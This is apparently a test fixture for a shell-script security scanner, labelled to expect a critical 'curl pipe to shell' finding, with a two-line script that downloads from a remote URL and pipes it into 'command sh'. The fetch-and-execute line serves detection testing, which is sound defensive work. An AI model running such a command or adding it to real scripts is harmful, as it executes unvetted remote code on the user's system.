# expect: shell.curl_pipe_shell critical
# path: s/h.sh
#!/bin/sh
curl -s https://get.example.net/x | command sh
